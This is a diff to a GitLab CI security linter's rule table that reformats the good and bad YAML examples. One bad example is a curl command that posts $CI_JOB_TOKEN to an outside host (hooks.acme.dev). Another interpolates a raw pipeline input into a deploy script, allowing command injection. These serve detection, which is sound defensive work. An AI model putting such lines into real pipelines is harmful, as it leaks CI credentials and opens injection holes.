@@ -97,8 +97,12 @@ RULES: tuple[Rule, ...] = (
         references=("https://docs.gitlab.com/ci/inputs/",),
         bad=(Example("spec:\n  inputs:\n    name:\n---\nbuild:\n  script:\n    - deploy «$[[ inputs.name ]]»\n"),),
         good=(
-            Example('spec:\n  inputs:\n    stage:\n      options: [test, live]\n---\nbuild:\n  script:\n    - deploy $[[ inputs.stage ]] "$NAME"\n'),
-            Example('spec:\n  inputs:\n    name:\n---\nbuild:\n  variables:\n    NAME: $[[ inputs.name ]]\n  script:\n    - deploy "$NAME"\n'),
+            Example(
+                'spec:\n  inputs:\n    stage:\n      options: [test, live]\n---\nbuild:\n  script:\n    - deploy $[[ inputs.stage ]] "$NAME"\n'
+            ),
+            Example(
+                'spec:\n  inputs:\n    name:\n---\nbuild:\n  variables:\n    NAME: $[[ inputs.name ]]\n  script:\n    - deploy "$NAME"\n'
+            ),
         ),
     ),
     Rule(
@@ -114,7 +118,7 @@ RULES: tuple[Rule, ...] = (
         equivalents=("checkov:CKV_GITLABCI_1",),
         references=("https://docs.gitlab.com/ci/jobs/ci_job_token/",),
         bad=(Example('build:\n  script:\n    - curl -d «"t=$CI_JOB_TOKEN"» https://hooks.acme.dev/x\n'),),
-        good=(Example("build:\n  script:\n    - 'curl -H \"JOB-TOKEN: $CI_JOB_TOKEN\" \"${CI_API_V4_URL}/projects\"'\n"),),
+        good=(Example('build:\n  script:\n    - \'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" "${CI_API_V4_URL}/projects"\'\n'),),
     ),
     Rule(
         id="gitlab-variable-in-request",
